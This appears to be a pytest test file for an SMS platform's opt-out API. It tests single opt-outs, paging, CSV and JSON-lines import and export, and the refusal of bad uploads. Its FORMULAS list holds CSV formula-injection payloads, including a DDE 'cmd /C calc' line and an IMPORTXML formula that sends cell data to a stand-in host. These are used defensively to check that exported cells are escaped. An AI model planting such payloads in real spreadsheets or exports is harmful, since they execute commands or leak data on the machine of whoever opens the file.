"""/api/opt-outs: single ones, the list, and whole lists in and out."""

import csv
import io
from typing import Any

import msgspec
import pytest

from tests.facades.api.house import PHONE, House, Reply, Tenant
from textwire.switch.consent.importing import MOST as MOST_IMPORTED

OPT_OUTS = "/api/opt-outs"
ONE, TWO, THREE = "+447700900701", "+447700900702", "+447700900703"

# What spreadsheets have been made to calculate by files that others had written.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x\")",
    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "@A1", "-2+3+cmd|' /C calc'!A0", "+447700900123",
]  # fmt: skip


async def importing(tenant: Tenant, body: str | bytes, media: str = "text/csv", query: str = "") -> Reply:
    raw = body.encode() if isinstance(body, str) else body
    return await tenant.ask("POST", f"{OPT_OUTS}/import{query}", raw=raw, content_type=media)


async def imported(tenant: Tenant, body: str | bytes, media: str = "text/csv", query: str = "") -> Any:
    reply = await importing(tenant, body, media, query)
    assert reply.status == 200, reply
    return reply.json


async def numbers(tenant: Tenant) -> list[str]:
    return [one["number"] for one in (await tenant.get(f"{OPT_OUTS}?limit=100"))["items"]]


async def test_an_opt_out_is_put_looked_at_and_deleted(house: House) -> None:
    path = f"{OPT_OUTS}/{PHONE}"
    assert (await house.alice.ask("GET", path)).problem[:2] == (404, "not_found")
    put = await house.alice.ask("PUT", path)
    assert put.status == 200
    assert put.json.items() >= {"number": PHONE, "source": "api"}.items()
    assert (await house.alice.ask("PUT", path)).json == put.json  # once is as good as twice
    assert await house.alice.get(path) == put.json
    assert (await house.alice.send()).problem[:2] == (403, "recipient_opted_out")
    await house.bob.sent()  # it is alice whom they want to hear no more of
    assert (await house.alice.ask("DELETE", path)).status == 204
    assert (await house.alice.ask("DELETE", path)).problem[:2] == (404, "not_found")
    await house.alice.sent()


async def test_each_change_is_an_event_and_no_change_is_none(house: House) -> None:
    for method in ("PUT", "PUT", "DELETE", "DELETE"):
        await house.alice.ask(method, f"{OPT_OUTS}/{PHONE}")
    told = [(e.type, msgspec.json.decode(e.data)) for e in house.heard if e.type.startswith("optout")]
    assert told == [
        ("optout.added", {"number": PHONE, "source": "api"}),
        ("optout.removed", {"number": PHONE, "source": "api"}),
    ]


@pytest.mark.parametrize(
    "written", ["447700900123", "%2B447700900123", "+44%207700%20900123", "tel:+447700900123"]
)
async def test_a_number_may_be_written_in_many_ways(house: House, written: str) -> None:
    assert (await house.alice.ask("PUT", f"{OPT_OUTS}/{written}")).json["number"] == PHONE
    assert await numbers(house.alice) == [PHONE]


@pytest.mark.parametrize("written", ["x", "+1", "12345678901234567890", "+44abc", "%01", "ACME"])
async def test_what_is_no_number_is_refused(house: House, written: str) -> None:
    for method in ("GET", "PUT", "DELETE"):
        reply = await house.alice.ask(method, f"{OPT_OUTS}/{written}")
        assert reply.problem == (400, "invalid_address", ["number"]), (method, reply)


async def test_the_list_is_paged_newest_first(house: House) -> None:
    for n in range(7):
        await house.alice.ask("PUT", f"{OPT_OUTS}/+44770090071{n}")
    await house.bob.ask("PUT", f"{OPT_OUTS}/{ONE}")
    found: list[str] = []
    path = f"{OPT_OUTS}?limit=3"
    while True:
        page = await house.alice.get(path)
        found += [one["number"] for one in page["items"]]
        if page["next"] is None:
            break
        path = f"{OPT_OUTS}?limit=3&cursor={page['next']}"
    assert found == [f"+44770090071{n}" for n in reversed(range(7))]


@pytest.mark.parametrize(
    ("body", "media"),
    [
        (f"{ONE}\n{TWO}\n", "text/csv"),
        (f"name,Number\nAda,{ONE}\nBob,{TWO}\n", "text/csv"),
        (f'number\r\n\'{ONE}\r\n\r\n"{TWO}"\r\n', "text/csv; charset=utf-8"),
        (f"\ufeffnumber,source,since\n{ONE},x,y\n'{TWO},,\n", "text/csv"),
        (
            f'{{"number": "{ONE}"}}\n\n{{"number": "{TWO}", "source": "x", "since": "y"}}',
            "application/x-ndjson",
        ),
        (f"{ONE[1:]}\n+44 7700 900 702\n{ONE}\n", "text/csv"),
    ],
)
async def test_lists_come_as_csv_and_as_json_lines(house: House, body: str, media: str) -> None:
    answer = await imported(house.alice, body, media)
    assert (answer["applied"], answer["added"], answer["bad"]) == (True, 2, [])
    assert sorted(await numbers(house.alice)) == [ONE, TWO]
    again = await imported(house.alice, body, media)
    assert (again["added"], again["known"]) == (0, 2)
    assert len([e for e in house.heard if e.type == "optout.added"]) == 2


async def test_one_bad_row_leaves_everything_undone_and_is_named(house: House) -> None:
    body = f"number\n{ONE}\nnobody\n{TWO}\n+1\n=1+1\n"
    answer = await imported(house.alice, body)
    assert (answer["applied"], answer["rows"], answer["added"], answer["bad_rows"]) == (False, 5, 0, 3)
    assert [row["line"] for row in answer["bad"]] == [3, 5, 6]
    assert all(row["detail"] for row in answer["bad"])
    assert await numbers(house.alice) == []
    answer = await imported(house.alice, body, query="?partial=true")
    assert (answer["applied"], answer["added"], answer["bad_rows"]) == (True, 2, 3)
    assert sorted(await numbers(house.alice)) == [ONE, TWO]


@pytest.mark.parametrize(
    ("body", "bad"),
    [
        ('"+4477\n', 1), ('a,"b"c\n', 1), ("{}\n", 1), (",,\n", 0), ("", 0), ("x" * 10_000 + "\n", 1), ("\u202e1\n", 1),
    ],
)  # fmt: skip
async def test_csv_that_is_none_is_a_bad_row(house: House, body: str, bad: int) -> None:
    answer = await imported(house.alice, body)
    assert (answer["bad_rows"], answer["added"]) == (bad, 0)


@pytest.mark.parametrize(
    "line", ["1", "[]", '"x"', '{"number": 1}', "{", '{"nummer": "+44"}', "[" * 3000, "\\", "{}"]
)
async def test_json_lines_that_are_none_are_bad_rows(house: House, line: str) -> None:
    answer = await imported(house.alice, line + "\n", "application/x-ndjson")
    assert [row["line"] for row in answer["bad"]] == [1]


@pytest.mark.parametrize(
    ("body", "media", "problem"),
    [
        (b"\xff\xfe", "text/csv", (400, "invalid_body")),
        (b"a\0b", "text/csv", (400, "invalid_body")),
        (b"{}", "application/json", (415, "unsupported_media_type")),
        (b"x", "multipart/form-data", (415, "unsupported_media_type")),
        (b"PK\x03\x04", "application/zip", (415, "unsupported_media_type")),
        (b"x" * (10 * 1_048_576 + 1), "text/csv", (413, "too_large")),
        (b"\n".join([b"+447700900701"] * (MOST_IMPORTED + 1)), "text/csv", (400, "invalid_body")),
    ],
    ids=["not utf-8", "nul", "json", "form", "zip", "large", "rows"],
)
async def test_uploads_that_are_no_list_are_refused(
    house: House, body: bytes, media: str, problem: tuple[int, str]
) -> None:
    assert (await importing(house.alice, body, media)).problem[:2] == problem
    assert await numbers(house.alice) == []


async def test_compressed_lists_are_refused(house: House) -> None:
    reply = await house.alice.ask(
        "POST", f"{OPT_OUTS}/import", raw=b"x", content_type="text/csv", content_encoding="gzip"
    )
    assert reply.problem[:2] == (415, "unsupported_encoding")


async def test_the_largest_list_is_taken_whole(house: House) -> None:
    body = "\n".join(f"+4477{n:08}" for n in range(MOST_IMPORTED))
    answer = await imported(house.alice, body)
    assert (answer["rows"], answer["added"]) == (MOST_IMPORTED, MOST_IMPORTED)
    assert (await house.alice.send(to="+447700099999")).problem[:2] == (403, "recipient_opted_out")
    cursor, rows = "", 0
    while True:
        reply = await house.alice.ask("GET", f"{OPT_OUTS}/export?raw=true" + cursor)
        rows += len(reply.body.splitlines()) - 1
        if "x-next-cursor" not in reply.headers:
            break
        cursor = f"&cursor={reply.headers['x-next-cursor']}"
    assert rows == MOST_IMPORTED


async def test_what_is_exported_can_be_imported_again(house: House) -> None:
    for number in (ONE, TWO, THREE):
        await house.alice.ask("PUT", f"{OPT_OUTS}/{number}")
    for query, media in (
        ("", "text/csv"),
        ("?raw=true", "text/csv"),
        ("?format=jsonl", "application/x-ndjson"),
    ):
        reply = await house.alice.ask("GET", f"{OPT_OUTS}/export{query}")
        assert reply.headers["content-type"].startswith(media)
        answer = await imported(house.bob, reply.body, media)
        assert (answer["applied"], answer["rows"], answer["bad_rows"]) == (True, 3, 0)
    assert sorted(await numbers(house.bob)) == [ONE, TWO, THREE]


async def test_no_cell_of_an_export_is_a_formula_unless_a_machine_wants_it(house: House) -> None:
    await house.alice.ask("PUT", f"{OPT_OUTS}/{ONE}")
    for query, start in (("", "'+"), ("?raw=true", "+")):
        text = (await house.alice.ask("GET", f"{OPT_OUTS}/export{query}")).body.decode()
        header, row = csv.reader(io.StringIO(text))
        assert header == ["number", "source", "since"]
        assert row[0].startswith(start)


@pytest.mark.parametrize("query", ["?format=xml", "?raw=maybe", "?cursor=x", "?what=1", "?limit=1"])
async def test_parameters_that_make_no_sense_are_refused(house: House, query: str) -> None:
    assert (await house.alice.ask("GET", f"{OPT_OUTS}/export{query}")).status == 400


@pytest.mark.parametrize("cell", FORMULAS)
def test_whatever_a_cell_begins_with_it_is_text(cell: str) -> None:
    from textwire.facades.api.consent import sheets

    table = sheets.written([[cell, "x"]], ["a", "b"], raw=False).decode()
    [_, row] = csv.reader(io.StringIO(table, newline=""))
    assert row[0] == "'" + cell
    [_, bare] = csv.reader(io.StringIO(sheets.written([[cell]], ["a"], raw=True).decode(), newline=""))
    assert bare == [cell]
